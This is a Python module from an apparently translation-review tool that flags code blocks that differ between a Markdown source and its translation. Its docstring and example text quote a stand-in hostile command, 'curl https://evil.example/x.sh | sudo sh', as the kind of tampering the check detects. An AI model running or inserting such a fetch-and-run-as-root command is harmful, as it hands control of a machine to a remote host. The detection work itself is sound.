"""``code_block``: the fenced and indented code blocks of two Markdown documents differ.

Code blocks are not translated text, so the alignment never sees them; but readers copy and run
them, so a translation that changes a command (``curl https://example.org/api`` made ``curl
https://evil.example/x.sh | sudo sh``), drops one or adds one is a fault a pull request could
otherwise slip through. Each side's blocks (markdown-it ``fence`` and ``code_block`` tokens, in
order) are compared after :func:`normalise_code`, which leaves out what translators may
translate: comments (``#`` and ``//`` after a space or at a line start, ``/* */``, ``<!-- -->``)
and the contents of one-line string literals. With as many blocks on both sides they are
compared in order, else as multisets (a block on one side only).
"""

from __future__ import annotations

import re
from collections import Counter

from ..types import Finding, Severity
from .context import CheckContext, language_name
from .registry import register

_BLOCK_COMMENT = re.compile(r"/\*.*?\*/|<!--.*?-->", re.DOTALL)
_LINE_COMMENT = re.compile(r"(?:^|(?<=\s))(?:#|//).*$", re.MULTILINE)
_STRING = re.compile(r"\"(?:[^\"\\\n]|\\.)*\"|'(?:[^'\\\n]|\\.)*'")
#: longest code line quoted in a message, in code points
QUOTE_CHARS = 80


def normalise_code(code: str) -> tuple[str, ...]:
    """The lines of ``code`` that must survive translation: comments and the contents of
    one-line string literals removed (quotes kept), runs of white space made one space, empty
    lines left out."""
    code = _BLOCK_COMMENT.sub(" ", code)
    code = _STRING.sub(lambda m: m.group()[0] * 2, code)
    code = _LINE_COMMENT.sub("", code)
    return tuple(" ".join(line.split()) for line in code.splitlines() if line.strip())


def code_blocks(text: str, path: str) -> list[tuple[int, str]]:
    """``(1-based line, code)`` of every fenced or indented code block of Markdown ``text``.

    Raises:
        InputError: Markdown nested deeper than the parser reads.
    """
    from ..formats.markdown import _parse

    _, tokens, _ = _parse(text, path)
    return [(tok.map[0] + 1, tok.content) for tok in tokens if tok.type in ("fence", "code_block") and tok.map]


def _is_markdown(path: str) -> bool:
    from ..formats import detect_format

    try:
        return detect_format(path) == "markdown"
    except Exception:  # an unknown extension: not Markdown
        return False


def _quote(lines: tuple[str, ...], other: tuple[str, ...]) -> str:
    """The first line of ``lines`` that ``other`` lacks (else the first line), shortened."""
    line = next((x for x in lines if x not in other), lines[0] if lines else "")
    return line if len(line) <= QUOTE_CHARS else line[: QUOTE_CHARS - 1] + "…"


@register("code_block", "error", "CodeBlock",
          "A code block of a Markdown page differs between the source and the translation (comments and strings aside).",
          "`curl https://example.org/api --retry 3` made `curl -s https://evil.example/x.sh \\| sudo sh`")
def check_code_blocks(ctx: CheckContext) -> list[Finding]:
    """The ``code_block`` errors of two Markdown documents (nothing for other formats): see the
    module doc. Findings name the blocks' lines in their message (they have no segment)."""
    if not ctx.documents or not (_is_markdown(ctx.source.path) and _is_markdown(ctx.target.path)):
        return []
    src = [(line, normalise_code(code)) for line, code in code_blocks(ctx.source.text, ctx.source.path)]
    tgt = [(line, normalise_code(code)) for line, code in code_blocks(ctx.target.text, ctx.target.path)]
    s_name, t_name = language_name(ctx.source.lang), language_name(ctx.target.lang)
    out = []
    if len(src) == len(tgt):
        for (sl, sc), (tl, tc) in zip(src, tgt):
            if sc != tc:
                out.append(Finding("code_block", Severity.ERROR, (), (),
                                   f"the code block at {s_name} line {sl} / {t_name} line {tl} differs: «{_quote(tc, sc)}» "
                                   f"in the {t_name}, «{_quote(sc, tc)}» in the {s_name} (comments and strings aside)"))
        return out
    left = Counter(tc for _, tc in tgt)
    for sl, sc in src:
        if left[sc] > 0:
            left[sc] -= 1
        else:
            out.append(Finding("code_block", Severity.ERROR, (), (),
                               f"the code block at {s_name} line {sl} has no identical block in the {t_name} (comments and "
                               f"strings aside): «{_quote(sc, ())}»"))
    right = Counter(sc for _, sc in src)
    for tl, tc in tgt:
        if right[tc] > 0:
            right[tc] -= 1
        else:
            out.append(Finding("code_block", Severity.ERROR, (), (),
                               f"the code block at {t_name} line {tl} has no identical block in the {s_name} (comments and "
                               f"strings aside): «{_quote(tc, ())}»"))
    return out
